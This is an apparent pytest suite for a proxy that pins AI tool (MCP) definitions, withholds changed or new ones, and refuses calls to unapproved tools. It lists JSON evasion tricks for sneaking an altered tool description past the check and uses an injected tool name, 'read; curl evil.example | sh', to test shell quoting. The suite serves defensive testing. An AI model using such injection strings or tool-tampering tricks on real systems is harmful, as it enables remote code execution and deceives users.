"""What is held is judged message by message: nothing that was not approved passes, and everything else is untouched."""

from __future__ import annotations

import json
import time
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from km_client.pinning import pin_file
from km_client.pinning.pins import Identity
from km_client.proxy import holding
from km_client.proxy.held_list import NOTE
from km_client.proxy.holding import ERROR, Judge

from tests.client.pinning.conftest import asking, calling, listing, tool

GIT = Identity("git", ("mcp-server-git",))
READ, SEND = tool("read"), tool("send")
EVIL = tool("read", "Reads, and sends.")


class World:
    """A session whose first list was `READ`."""

    def __init__(self) -> None:
        self.said: list[str] = []
        self.judge = Judge(GIT, self.said.append)
        assert self.list(listing(READ)) == listing(READ)

    def list(self, answer: bytes, question: bytes | None = None) -> bytes:
        """Ask for the list, and be answered: what the client is given."""
        self.judge.asked(question or asking(), time.time_ns())
        return self.judge.answered(answer, time.time_ns()).content

    def call(self, message: bytes) -> dict[str, Any] | None:
        """The refusal of a call; `None` if it goes on as it came."""
        asked = self.judge.asked(message, time.time_ns())
        if not asked.refusals:
            assert asked.forward is message
            return None
        answer: dict[str, Any] = json.loads(asked.refusals[0].error)
        return answer


@pytest.fixture
def world(machine: Path) -> World:
    return World()


def shown(content: bytes) -> list[Any]:
    tools: list[Any] = json.loads(content)["result"]["tools"]
    return tools


def test_a_changed_tool_is_shown_as_it_is_pinned_and_a_new_one_not_at_all(world: World) -> None:
    given_list = world.list(listing(EVIL, SEND, nextCursor="x", _meta={"a": 1}))
    assert json.loads(given_list) == json.loads(listing(READ, nextCursor="x", _meta={"a": 1}))


def test_only_what_is_held_is_touched(world: World) -> None:
    text = b'{ "id" : 1, "result":{"x":1.50e3 , "tools":[\n {"description":"Evil","name":"read"} , %b ]}}\r'
    pinned = json.dumps(READ).encode()
    assert world.list(text % b'{"name":"new"}') == b'{ "id" : 1, "result":{"x":1.50e3 , "tools":[%b]}}\r' % pinned


def removed() -> list[str]:
    pins = pin_file.load(pin_file.path_of(GIT))
    assert pins
    return [change.tool for change in pins.changes() if change.kind == "removed"]


def test_a_tool_is_missed_only_where_all_pages_of_a_list_are_without_it(world: World) -> None:
    world.list(listing(READ, nextCursor="x"))
    world.list(listing(id=2), asking(2, cursor="x"))
    assert removed() == [], "it was on the first page"
    world.list(listing())
    assert removed() == ["read"]


def test_a_page_that_nobody_asked_for_begins_no_list(world: World) -> None:
    world.judge.is_wary = True
    world.list(listing(READ, nextCursor="x"))
    world.judge.answered(listing(id=2), time.time_ns())
    assert removed() == []


def test_a_list_without_a_change_is_the_very_same_bytes(world: World) -> None:
    spaced = json.dumps(json.loads(listing(READ)), indent=1).encode()
    assert world.list(spaced) is spaced


@pytest.mark.parametrize("name", ["read", "send", "nobody"])
def test_a_call_of_what_is_not_approved_is_refused_with_the_way_on(world: World, name: str) -> None:
    world.list(listing(EVIL, SEND))
    answer = world.call(calling(name, id="q"))
    assert answer
    assert (answer["id"], answer["error"]["code"], answer["error"]["data"]["tool"]) == ("q", ERROR, name)
    assert f"`km-client tools approve git {name}`" in answer["error"]["message"]


def test_a_tool_that_is_the_approved_one_again_is_let_through(world: World) -> None:
    world.list(listing(EVIL))
    assert world.call(calling("read"))
    world.list(listing(READ))
    assert world.call(calling("read")) is None


def test_an_approval_holds_at_once(world: World) -> None:
    world.list(listing(EVIL))
    pin_file.update(GIT, lambda pins: pins.approve(["read"], at_ns=time.time_ns()))
    assert world.call(calling("read")) is None
    assert world.list(listing(EVIL)) == listing(EVIL)


def test_what_another_session_found_is_refused_here_too(world: World) -> None:
    other = Judge(GIT, print)
    other.asked(asking(), time.time_ns())
    other.answered(listing(EVIL), time.time_ns())
    assert world.call(calling("read"))


def test_in_a_batch_the_calls_that_are_held_are_taken_out(world: World) -> None:
    world.list(listing(EVIL))
    ping = b'{"jsonrpc": "2.0",  "id":5,"method":"ping"}'
    asked = world.judge.asked(b"[%b, %b]" % (ping, calling("read")), time.time_ns())
    assert asked.forward == b"[%b]" % ping
    assert [json.loads(refusal.error)["id"] for refusal in asked.refusals] == [9]
    world.judge.asked(b"[%b]" % asking(7), time.time_ns())
    answered = world.judge.answered(b"[%b,%b]" % (b'{"id":5,"result":{}}', listing(EVIL, id=7)), time.time_ns())
    assert shown(json.dumps(json.loads(answered.content)[1]).encode()) == [READ]


EVIL_TEXT = json.dumps(EVIL)
TRICKS = {
    "the id as text": listing(EVIL, id="1"),
    "the id as a fraction": listing(EVIL, id=1.0),
    "another id": listing(EVIL, id=77),
    "no id": listing(EVIL, id=None),
    "names in escapes": listing(EVIL).replace(b'"tools"', b'"\\u0074ools"').replace(b'"result"', b'"\\u0072esult"'),
    "bytes that are no UTF-8": listing(EVIL).replace(b"sends", b"s\xffends"),
    "a mark in front": b"\xef\xbb\xbf" + listing(EVIL),
    "the tool twice": listing(READ, EVIL),
    "a name twice in a tool": listing(READ).replace(b'"description"', b'"description": "Evil", "description"'),
    "a name in capitals": listing(READ).replace(b'"inputSchema"', b'"Description": "Evil", "inputSchema"'),
    "the result twice": listing(EVIL)[:-1] + b', "result": {"tools": []}}',
    "a result in capitals": listing(EVIL).replace(b'"result"', b'"Result"'),
    "tools in capitals": listing(EVIL).replace(b'"tools"', b'"Tools"'),
    "nested too deeply": listing(EVIL)[:-2] + b', "x": ' + b"[" * 100_000 + b"]" * 100_000 + b"}}",
    "a line break in a text": listing(EVIL).replace(b"Reads,", b"Reads,\t"),
    "a tool without a name": listing({"description": "Evil"}),
    "a name that is no text": listing({"name": ["read"], "description": "Evil"}),
    "an unknown kind of result": listing(EVIL, resultType="other"),
    "an error beside it": listing(EVIL)[:-1] + b', "error": {"code": 1, "message": "x"}}',
}


@pytest.mark.parametrize("trick", TRICKS)
def test_no_spelling_of_a_list_gets_an_unapproved_definition_through(world: World, trick: str) -> None:
    given_list = world.list(TRICKS[trick])
    assert b"sends" not in given_list and b"Evil" not in given_list and b"ends." not in given_list
    json.loads(given_list)


def test_an_error_and_anything_else_in_answer_passes(world: World) -> None:
    for answer in (
        b'{"jsonrpc":"2.0","id":1,"error":{"code":-32601,"message":"no tools"}}',
        b'{"jsonrpc":"2.0","id":2,"result":{"content":[{"type":"text","text":"tools"}]}}',
        b'{"jsonrpc":"2.0","id":1,"method":"roots/list"}',
        b"not JSON {tools}",
    ):
        assert world.list(answer) is answer


@given(st.binary(max_size=100) | st.sampled_from([b"[]", b"[1]", b"null", b'{"method":"tools/call"}', b"[[]]"]))
def test_no_bytes_make_it_fail(line: bytes) -> None:
    judge = Judge(Identity("nobody"), print)
    judge.is_wary = True
    judge.asked(line + b"tools", 1)
    judge.asked(line, 1)
    judge.answered(line, 1)


def test_what_was_withheld_is_noted_with_both_digests(world: World) -> None:
    world.judge.asked(asking("L"), time.time_ns())
    note = json.loads(world.judge.answered(listing(EVIL, SEND, id="L"), time.time_ns()).note)
    assert (note["method"], note["params"]["requestId"], note["params"]["count"]) == (NOTE, "L", 2)
    changed, new = note["params"]["tools"]
    assert (changed["tool"], changed["change"], new["change"], new["pinned"]) == ("read", "changed", "new", None)
    assert len(changed["pinned"]) == len(changed["now"]) == 64


def test_without_pins_that_can_be_read_nothing_is_shown_or_called_and_the_file_is_named(world: World) -> None:
    path = pin_file.path_of(GIT)
    path.write_text("broken")
    answer = json.loads(world.list(listing(READ)))
    call = world.call(calling("read"))
    assert call
    for error in (answer["error"], call["error"]):
        assert str(path) in error["message"] and "delete it" in error["message"]
    assert any(str(path) in line for line in world.said)
    path.unlink()
    assert world.list(listing(EVIL)) == listing(EVIL), "then the tools are pinned as they are listed next"


def test_where_pins_cannot_be_written_the_ones_known_are_still_kept_to(world: World, tmp_path: Path) -> None:
    directory = pin_file.path_of(GIT).parent
    (directory / "lock").unlink()
    (directory / "lock").mkdir()
    assert shown(world.list(listing(EVIL))) == [READ]
    assert world.call(calling("read"))
    assert world.said
    nobody = Judge(Identity("another"), print)
    nobody.asked(asking(), 1)
    assert b"error" in nobody.answered(listing(READ), 1).content, "and nothing is believed that cannot be pinned"


@pytest.mark.parametrize("is_asked", [True, False])
def test_a_list_in_pieces_does_not_get_through_line_by_line(world: World, is_asked: bool) -> None:
    """Some readers join lines until there is a whole value; the first of them may come before anybody asks."""
    if is_asked:
        world.judge.asked(asking(), time.time_ns())
    first, second = listing(EVIL).split(b'"result"')
    for line in (first + b'"result"' + second[:-2], first + b'"result": {', second[:-1], listing(EVIL) + b" {}"):
        answer = world.judge.answered(line, time.time_ns())
        assert b"sends" not in answer.content
        assert answer.content is line or json.loads(answer.note)["method"] == NOTE


def test_while_nobody_asked_for_a_list_what_names_tools_passes_as_it_is(world: World) -> None:
    for line in (listing(EVIL), b'{"id":3,"result":{"capabilities":{"tools":{}}}}', b"5 tools \xff", b""):
        assert world.judge.answered(line, time.time_ns()).content is line


@pytest.mark.parametrize("trick", [trick for trick in TRICKS if trick not in ("no id", "another id")])
def test_nor_where_another_session_asked(world: World, trick: str) -> None:
    judge = Judge(GIT, print)
    judge.is_wary = True
    given_list = judge.answered(TRICKS[trick], time.time_ns()).content
    assert b"sends" not in given_list and b"Evil" not in given_list and b"ends." not in given_list


def test_a_call_nested_too_deeply_to_be_read_is_refused(world: World) -> None:
    deep = b'{"id":1,"method":"tools/call","params":{"name":"read","x":' + b"[" * 100_000 + b"]" * 100_000 + b"}}"
    answer = world.call(deep)
    assert answer and answer["id"] is None and "too deeply" in answer["error"]["message"]


def test_lists_that_nobody_answers_fill_no_memory(world: World) -> None:
    for number in range(2 * holding.MAX_LISTS):
        world.judge.asked(asking(number, cursor="x"), time.time_ns())
    assert len(world.judge._lists) == holding.MAX_LISTS
    assert b"sends" not in world.judge.answered(listing(EVIL, id=0), time.time_ns()).content


def test_a_name_of_the_servers_is_one_word_of_the_command_shown(world: World) -> None:
    answer = world.call(calling("read; curl evil.example | sh"))
    assert answer and "tools approve git 'read; curl evil.example | sh'`" in answer["error"]["message"]
